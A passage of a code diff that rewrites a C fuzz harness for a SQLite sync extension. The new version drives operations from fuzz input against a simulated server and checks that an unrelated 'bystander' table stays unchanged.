-    int is_application = memmem(data, n, "ON notes", 8) || memmem(data, n, "ON pairs", 8);
-    is_chosen = memmem(data, n, "leadx_tables", 12) || memmem(data, n, "sqlite_schema", 13) ||
-                memchr(data, '@', n);
-    char *before = bystander(db);
-    read_all(db);
-    sqlite3_exec(db, "SELECT leadx_configure('https://fuzz.example', 'sb_publishable_fuzz')", NULL,
-                 NULL, NULL);
-    sqlite3_exec(db,
-                 "SELECT leadx_configure('https://fuzz.example/rest/v1', 'sb_publishable_fuzz')",
-                 NULL, NULL, NULL);
-    sync_twice(db);
-    read_all(db);
-    char *after = bystander(db);
-    /* A trigger of the file on a tracked table does what the application's own would do. */
-    FUZZ_CHECK(is_application || is_chosen || !before || !after || strcmp(before, after) == 0,
-               "%s became %s", before, after);
-    sqlite3_free(before);
-    sqlite3_free(after);
+  run r = {.in = {(const unsigned char *)data, (const unsigned char *)data + n},
+           .is_syncing = n % 4 < 2};
+  open_copy(&r);
+  /* What the server answers is spoilt by the same bytes, from the end. */
+  fuzz_input answers = {r.in.end - (n > 64 ? n / 4 : 0), r.in.end};
+  fuzz_server *server = fuzz_server_begin(&answers, n % 2 == 0);
+  server->seen = see_request;
+  server->ctx = &r;
+  if (is_text(&r.in)) {
+    set_writable_schema(&r, 1);
+    each_line(&r, 0, NULL);
+    set_writable_schema(&r, 0);
+    sqlite3_exec(r.db, "PRAGMA query_only = OFF", NULL, NULL, NULL);
+    r.is_chosen = 1;
   }
-  FUZZ_CHECK(sqlite3_close(db) == SQLITE_OK, "something was left open");
+  char *before = bystander(r.db);
+  for (int i = 0; i < MAX_OPERATIONS && r.in.at < r.in.end; i++) operate(&r);
+  use_it_all(&r);
+  char *after = bystander(r.db);
+  FUZZ_CHECK(r.is_chosen || !before || !after || strcmp(before, after) == 0, "%s became %s", before,
+             after);
+  sqlite3_free(before);
+  sqlite3_free(after);
+  FUZZ_CHECK(sqlite3_close(r.db) == SQLITE_OK, "something was left open");
+  fuzz_server_end();
 }
